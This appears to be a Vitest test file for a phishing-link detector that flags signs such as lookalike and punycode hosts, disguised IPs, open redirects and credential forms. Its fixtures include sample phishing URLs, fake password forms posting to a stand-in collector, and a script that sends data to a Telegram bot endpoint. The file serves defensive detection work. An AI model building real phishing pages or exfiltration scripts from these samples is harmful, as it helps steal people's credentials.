import { describe, expect, it } from 'vitest'
import { methods } from '../../../core/contract/methods.ts'
import { BUILT_IN_LANGUAGES } from '../../../core/model/text.ts'
import { addPack } from '../../../core/reputation/pack-add.ts'
import { analyse } from '../../../core/reputation/signs/analysis.ts'
import { toPageFacts } from '../../../core/reputation/signs/page-facts.ts'
import { signs, SIGNS_VERSION } from '../../../core/reputation/signs/registry.ts'
import { toUrlFacts } from '../../../core/reputation/signs/url-facts.ts'
import { analyseUrls, getUrlAnalysis } from '../../../core/reputation/url-analysis.ts'
import { listUrls } from '../../../core/reputation/url-list-query.ts'
import { verifyAudit } from '../../../core/store/audit.ts'
import { DAY } from './builders.ts'
import { aMessage, TestCase } from './case-builder.ts'

const opinion = (url: string, label?: string, ...html: string[]) =>
  analyse({
    url: toUrlFacts(url, label === undefined ? [] : [label]),
    pages: html.map((text) => toPageFacts(text, false)),
    companions: [],
  })
const idsOf = (url: string, label?: string, ...html: string[]): string[] =>
  opinion(url, label, ...html).signs.map((sign) => sign.id)

/** Each sign with what has it and what only looks so. */
const EXAMPLES: readonly (readonly [string, readonly string[], readonly string[]])[] = [
  ['lookalike-host', ['http://paypa1.com/', 'http://rnicrosoft.com/', 'http://secure-netfliix.com/', 'https://xn--pypal-4ve.com/'], ['https://paypal.com/', 'https://www.microsoft.com/', 'http://pineapple.example/', 'http://upset.example/']], // prettier-ignore
  [
    'punycode-host',
    ['https://xn--pypal-4ve.com/'],
    ['https://xn--bcher-kva.example/', 'https://xn--wgv71a119e.jp/'],
  ],
  ['brand-in-host', ['https://paypal.com.evil.test/', 'http://my-microsoft-help.test/'], ['https://login.microsoft.com/', 'https://paypal.co.test.paypal.com/', 'https://startups.test/', 'https://amazon.nl/']], // prettier-ignore
  [
    'brand-in-path',
    ['http://evil.test/netflix/index.php'],
    ['https://www.netflix.com/netflix/', 'http://shop.test/img/facebook.png'],
  ],
  ['credential-words', ['http://evil.test/login.php', 'http://verify.evil.test/', 'http://evil.test/sign-in/'], ['http://evil.test/blogin', 'https://paypal.com/signin', 'http://evil.test/accounting']], // prettier-ignore
  ['ip-host', ['http://198.51.100.7/x', 'http://[2001:db8::7]/'], ['http://10.1.2.3/', 'http://192.168.0.1/', 'http://1-2-3-4.test/']], // prettier-ignore
  ['disguised-ip', ['http://3325256711/', 'http://0xc6336407/x', 'http://0306.063.0144.07/', 'http://[::ffff:198.51.100.7]/'], ['http://198.51.100.7/', 'http://[2001:db8::7]/', 'http://[2001:0db8::7]/', 'http://123456.test/']], // prettier-ignore
  [
    'odd-port',
    ['http://evil.test:4444/'],
    ['http://evil.test:80/', 'http://evil.test:8080/', 'http://evil.test/a:4444'],
  ],
  [
    'userinfo',
    ['https://www.bank.test@evil.test/'],
    ['https://evil.test/@user', 'https://evil.test/?mail=a@b.test'],
  ],
  [
    'shortener',
    ['https://bit.ly/abc', 'https://www.tinyurl.com/x'],
    ['https://orbit.ly.test/', 'https://evil.test/bit.ly'],
  ],
  ['open-redirect', ['https://good.test/r?u=https%3A%2F%2Fevil.test%2Fx', 'https://good.test/L0/https:%2F%2Fevil.test'], ['https://good.test/r?u=https%3A%2F%2Fwww.good.test%2F', 'https://good.test/r?u=42']], // prettier-ignore
  ['encoded-payload', [`http://evil.test/?x=${Buffer.from('amy.jones@corp.test').toString('base64')}`, `http://evil.test/${Buffer.from('amy@corp.test').toString('hex')}.gif`, 'http://evil.test/%2525%252e'], ['http://evil.test/?x=c29tZSBwbGFpbiB0ZXh0IGhlcmU=', 'http://evil.test/a%20b', 'http://evil.test/sha/0123456789abcdef0123456789abcdef01234567']], // prettier-ignore
  [
    'deep-subdomains',
    ['http://a.b.c.d.evil.test/'],
    ['http://www.a.b.evil.test/', 'http://evil.test/a.b.c.d'],
  ],
  ['domain-as-subdomain', ['http://www.bank.com.evil.test/', 'http://portal.gov-office.evil.test/'], ['http://company.test/', 'http://com.evil.test/', 'http://mail.example.com/']], // prettier-ignore
  ['cheap-suffix', ['http://anything.top/'], ['http://top.example/', 'http://anything.com/top']],
  ['random-labels', ['http://xkqz7vbw93kpt2.com/', 'http://bq11v59fzzkt8w.net/'], ['http://international-conference.org/', 'http://wx439.test/', 'https://d3a7k2k2j3x9.cloudfront.net/']], // prettier-ignore
  ['random-path', ['http://evil.test/4BFWrt557VYxj20tgbifrjimr80RZSBGHUN'], ['http://blog.test/2026/03/how-to-read-mail-headers-in-2026', 'http://evil.test/AbCdEf12']], // prettier-ignore
  ['kit-path', ['http://evil.test/4BFWrt557VYxj20tgbifrjimr80RZSBGHUNLVNAXLY285239', 'http://evil.test/cl/463_md/31/4/80/23', 'https://s.test/x.html#4rYMmz9703sYUC221kuhtlpkkyo308XYNZTRGSQQUA'], ['http://evil.test/cl/463/31/4', 'http://news.test/2026/03/21/a-long-headline-2026', 'http://evil.test/ls/click?upn=4BFWrt557VYxj20tgbifrjimr80RZSBGHUN']], // prettier-ignore
  ['double-extension', ['http://evil.test/invoice.pdf.html', 'http://evil.test/a/scan.doc.exe'], ['http://evil.test/archive.tar.gz', 'http://evil.test/invoice.pdf', 'http://evil.test/jquery.min.js']], // prettier-ignore
  ['script-scheme', ['data:text/html;base64,PGh0bWw+', 'javascript:alert(1)'], ['data:image/png;base64,AAAA', 'http://evil.test/?javascript:1']], // prettier-ignore
  ['hosted-page', ['https://my-bank.web.app/', 'https://x.pages.dev/login'], ['https://my-bank.web.app/logo.png', 'https://web.app.test/', 'https://evil.test/web.app']], // prettier-ignore
  ['storage-page', ['https://storage.googleapis.com/bucket/page.html', 'https://b.s3.eu-central-1.amazonaws.com/x/login.html', 'https://s3.amazonaws.com/b/key'], ['https://storage.googleapis.com/bucket/logo.png', 'https://evil.test/page.html']], // prettier-ignore
  [
    'glued-www',
    ['https://wwwbank.test/'],
    ['https://www.bank.test/', 'https://www2.bank.test/', 'https://wwf.test/'],
  ],
  ['reader-in-address', ['https://evil.test/#amy@corp.test', 'https://evil.test/x/amy@corp.test'], ['https://evil.test/unsubscribe?m=amy@corp.test', 'https://evil.test/@amy']], // prettier-ignore
]

describe('W4 W5: signs of an address', () => {
  it.each(EXAMPLES)('%s is found where it is, and not where it only looks so', (id, there, absent) => {
    for (const url of there) expect(idsOf(url), url).toContain(id)
    for (const url of absent) expect(idsOf(url), url).not.toContain(id)
  })

  it('label-differs: the mail shows another address', () => {
    expect(idsOf('http://evil.test/', 'https://www.bank.test/login')).toContain('label-differs')
    expect(idsOf('http://evil.test/', 'www.evil.test')).not.toContain('label-differs')
    expect(idsOf('http://evil.test/', 'Read report.pdf')).not.toContain('label-differs')
  })

  it('label-urges: the button urges to confirm, in several languages and disguised', () => {
    for (const label of [
      'Verify my account',
      'CONFlRM NOW >>',
      'Connect Wallet',
      'Konto jetzt bestätigen',
      '本人確認はこちら',
    ])
      expect(idsOf('http://evil.test/', label), label).toContain('label-urges')
    for (const label of ['Read more', 'Our privacy policy', 'www.evil.test', 'Confirmed speakers'])
      expect(idsOf('http://evil.test/', label), label).not.toContain('label-urges')
    expect(idsOf('https://www.paypal.com/', 'Confirm my account')).not.toContain('label-urges')
  })

  it('borrowed-surroundings: only the button of a real mail was exchanged', () => {
    const ids = (label: string, ...companions: string[]): string[] =>
      analyse({ url: toUrlFacts('http://evil.test/', [label]), pages: [], companions }).signs.map(
        (sign) => sign.id,
      )
    expect(ids('Verify my wallet', 'trustwallet.com')).toContain('borrowed-surroundings')
    expect(ids('Our partners', 'trustwallet.com')).not.toContain('borrowed-surroundings')
    expect(ids('Verify my wallet', 'facebook.com', 'gstatic.com')).not.toContain('borrowed-surroundings')
  })

  it('W10 a plain address has no signs and no level', () => {
    for (const url of [
      'https://example.com/',
      'http://news.example.org/2026/03/a-story.html?page=2',
      'https://github.com/a/b/pull/7',
    ])
      expect(opinion(url), url).toEqual({ level: 'none', category: 'none', score: 0, signs: [] })
  })

  it('never takes long over a crafted address', () => {
    const hostile = ['a'.repeat(32_000), 'a.'.repeat(15_000), '%25'.repeat(10_000), 'A1b'.repeat(10_000), `${'http://x@'.repeat(3_000)}evil.test`] // prettier-ignore
    for (const text of hostile) {
      const start = performance.now()
      for (const url of [
        `http://evil.test/${text}`,
        `http://${text}.test/`,
        `http://evil.test/?u=${text}#${text}`,
      ])
        opinion(url, text)
      expect(performance.now() - start).toBeLessThan(2_000)
    }
  })
})

describe('W6: credential phishing is a category of its own', () => {
  const form = (target: string, title = 'Sign in to Microsoft'): string =>
    `<html><title>${title}</title><form method=post action="${target}"><input name=p type="password"></form></html>`

  it('W6 somebody else’s name and being after passwords make it', () => {
    expect(opinion('http://paypal.com.account-verify.test/login')).toMatchObject({
      category: 'credential-phishing',
    })
    expect(opinion('http://evil.test/x', undefined, form('https://collect.test/p'))).toMatchObject({
      level: 'dangerous',
      category: 'credential-phishing',
    })
  })

  it('W6 hiding alone is deception, and nothing is nothing', () => {
    expect(opinion('http://198.51.100.7/x')).toMatchObject({ level: 'suspicious', category: 'deception' })
    expect(opinion('http://evil.test/login.php')).toMatchObject({ level: 'none', category: 'none' })
  })

  it('W5 a logo of somebody else beside a password field, hot-linked or named', () => {
    const page = (inside: string): string => `<form action="/x"><input type=password></form>${inside}`
    const ids = (inside: string, url = 'http://evil.test/'): boolean =>
      idsOf(url, undefined, page(inside)).includes('page-logo')
    expect(ids('<img src="https://aadcdn.msauth.net/shared/1.0/content/images/x.svg">')).toBe(true)
    expect(ids('<img src="img/paypal-logo.png">')).toBe(true)
    expect(ids('<img src="data:image/png;base64,AAAA" alt="DHL">')).toBe(true)
    expect(ids('<link rel="shortcut icon" href="https://www.netflix.com/favicon.ico">')).toBe(true)
    expect(ids('<svg aria-label="Microsoft logo"></svg>')).toBe(true)
  })

  it('W5 not a logo: the owner’s own page, buttons to sign in by way of others, a page without password', () => {
    const page = (inside: string): string => `<form action="/x"><input type=password></form>${inside}`
    const ids = (inside: string, url = 'http://shop.test/'): boolean =>
      idsOf(url, undefined, page(inside)).includes('page-logo')
    expect(ids('<img src="/paypal-logo.png">', 'https://www.paypal.com/signin')).toBe(false)
    expect(ids('<img alt="Google logo"><img alt="Apple logo">')).toBe(false)
    expect(ids('<button><img alt="Google logo">Continue with Google</button>')).toBe(false)
    expect(ids('<img src="/our-logo.png" alt="Shop">')).toBe(false)
    expect(idsOf('http://shop.test/', undefined, '<img src="/paypal-logo.png">')).toEqual([])
  })

  it('W5 the page itself: password field, foreign form, brand, hidden script, bot', () => {
    const ids = (html: string, url = 'http://evil.test/'): string[] => idsOf(url, undefined, html)
    expect(ids(form('https://collect.test/p'))).toEqual(
      expect.arrayContaining(['page-brand', 'page-form-target', 'page-password-form']),
    )
    expect(ids(form('/login'), 'https://login.microsoftonline.com/')).toEqual(['page-password-form'])
    expect(ids('<p>Microsoft sells software</p>')).toEqual([])
    expect(ids('<script>document.write(unescape("%3C"))</script>')).toContain('page-obfuscated-script')
    expect(ids('<script>document.write("hello")</script>')).toEqual([])
    const bot = `${form('/x')}<script>fetch("https://api.telegram.org/bot1:abc/sendMessage")</script>`
    expect(ids(bot)).toContain('page-bot-exfiltration')
    expect(ids('<a href="https://api.telegram.org/bot1">docs</a>')).not.toContain('page-bot-exfiltration')
  })
})

describe('the recorded analysis', () => {
  const NOW = 30 * DAY
  const ALL = { text: '', turnedOnly: false, limit: 100 }
  const aCase = async (): Promise<TestCase> => {
    const test = new TestCase(NOW)
    test.mail(aMessage({ messageId: 'm', at: DAY, links: ['http://198.51.100.7/login', 'http://rated.test/login', 'http://fine.test/'] })) // prettier-ignore
    const nothing = { name: null, version: null, createdAt: 2 * DAY, level: null, levels: {} }
    await addPack(test.context, test.file('list.txt', 'rated.test\n'), nothing)
    return test
  }
  const idOf = (test: TestCase, url: string): number =>
    test.db.prepare('SELECT id FROM url WHERE url = ?').pluck().get(url) as number

  it('W4 is worked out for untested URLs, recorded with the version of the signs, and told in the audit log', async () => {
    const test = await aCase()
    expect(getUrlAnalysis(test.db, idOf(test, 'http://198.51.100.7/login')).recordedAt).toBeNull()
    const result = analyseUrls(test.context)
    expect(methods['url.analyse'].output.parse(result)).toEqual(result)
    expect(result).toEqual({ version: SIGNS_VERSION, urls: 2, analysed: 2, found: 1 })
    const recorded = getUrlAnalysis(test.db, idOf(test, 'http://198.51.100.7/login'))
    expect(methods['url.analysis'].output.parse(recorded)).toEqual(recorded)
    expect(recorded).toMatchObject({
      version: SIGNS_VERSION,
      recordedAt: '1970-01-31T00:00:00.000Z',
      level: 'suspicious',
    })
    expect(recorded.signs[0]).toEqual({
      id: 'ip-host',
      text: { key: 'sign.ip-host', params: { found: '198.51.100.7' } },
      weight: 3,
    })
    expect(analyseUrls(test.context)).toMatchObject({ urls: 2, analysed: 0, found: 0 })
    expect(test.db.prepare("SELECT count(*) FROM audit WHERE action = 'url.analyse'").pluck().get()).toBe(2)
    expect(verifyAudit(test.db).ok).toBe(true)
  })

  it('W10 never mixes with what packs say: the URL stays untested, a rated one is not analysed', async () => {
    const test = await aCase()
    const before = listUrls(test.db, NOW, ALL).rows.map((row) => [row.url, row.risk.now, row.analysis])
    expect(before).toContainEqual(['http://198.51.100.7/login', 'untested', null])
    analyseUrls(test.context)
    const after = listUrls(test.db, NOW, ALL).rows.map((row) => [
      row.url,
      row.risk.now,
      row.analysis?.level ?? null,
    ])
    expect(after).toEqual([
      ['http://rated.test/login', 'dangerous', null],
      ['http://198.51.100.7/login', 'untested', 'suspicious'],
      ['http://fine.test/', 'untested', 'none'],
    ])
  })

  it('refuses a URL that is not there', async () => {
    const test = await aCase()
    expect(() => getUrlAnalysis(test.db, 999)).toThrowError('request.not_found')
  })
})

describe('the set of signs', () => {
  it.each(signs.map((sign) => [sign.id, sign] as const))(
    '%s has a weight and its sentence in every language',
    (_id, sign) => {
      expect(sign.weight).toBeGreaterThan(0)
      for (const lang of BUILT_IN_LANGUAGES) expect(sign.texts[lang].text).toContain('{found}')
    },
  )

  it('has an example of every sign of addresses here', () => {
    const shown = new Set([
      ...EXAMPLES.map(([id]) => id),
      'label-differs',
      'label-urges',
      'borrowed-surroundings',
    ])
    expect(signs.map(({ id }) => id).filter((id) => !shown.has(id) && !id.startsWith('page-'))).toEqual([])
  })
})
